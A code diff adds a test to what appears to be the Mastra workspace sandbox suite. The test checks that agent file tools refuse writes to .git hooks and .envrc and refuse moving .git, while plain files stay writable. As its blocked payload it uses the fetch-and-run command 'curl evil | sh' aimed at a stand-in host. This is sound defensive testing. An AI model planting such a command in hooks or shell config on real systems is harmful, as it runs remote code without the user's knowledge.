@@ -316,6 +316,30 @@ describe.skipIf(!available)('isolation: bwrap', () => {
     expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false)
   })
 
+  it('F10/F11: the file tools of a workspace hold the same line as its isolated sandbox', async () => {
+    const sb = sandbox()
+    const ws = sb.workingDirectory
+    fs.mkdirSync(path.join(ws, '.git'), { recursive: true })
+    fs.writeFileSync(path.join(ws, '.envrc'), 'export SAFE=1\n')
+    const filesystem = new LocalFilesystem({ basePath: ws })
+    const tools = await createWorkspaceTools(new Workspace({ sandbox: sb, filesystem }))
+    const write = (p, content) => tools.mastra_workspace_write_file.execute({ path: p, content }, {})
+    await expect(write('.git/hooks/pre-commit', 'curl evil | sh\n')).rejects.toMatchObject({ code: 'EACCES' })
+    await expect(write('.envrc', 'curl evil | sh\n')).rejects.toMatchObject({ code: 'EACCES' })
+    await expect(filesystem.moveFile('.git', 'old-git')).rejects.toBeInstanceOf(PermissionError)
+    await write('notes.md', 'fine\n')
+    expect(fs.readFileSync(path.join(ws, 'notes.md'), 'utf8')).toBe('fine\n')
+    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export SAFE=1\n')
+    expect(fs.existsSync(path.join(ws, '.git', 'hooks'))).toBe(false)
+    // A filesystem on its own, or told otherwise, writes where Mastra's would.
+    const plain = new LocalFilesystem({ basePath: ws })
+    const told = new LocalFilesystem({ basePath: ws, protectedPaths: [] })
+    new Workspace({ sandbox: sb, filesystem: told })
+    await plain.writeFile('.vscode/settings.json', '{}')
+    await told.writeFile('.idea/workspace.xml', '<x/>')
+    expect(fs.existsSync(path.join(ws, '.vscode', 'settings.json')) && fs.existsSync(path.join(ws, '.idea', 'workspace.xml'))).toBe(true)
+  })
+
   it('F10/F11: protectedPaths replaces the list; a symlink in it stops the start; escaping paths are refused', async () => {
     const open = sandbox({ nativeSandbox: { protectedPaths: [] } })
     expect((await sh(open, 'echo "export X=1" > .envrc && cat .envrc')).stdout).toBe('export X=1\n')
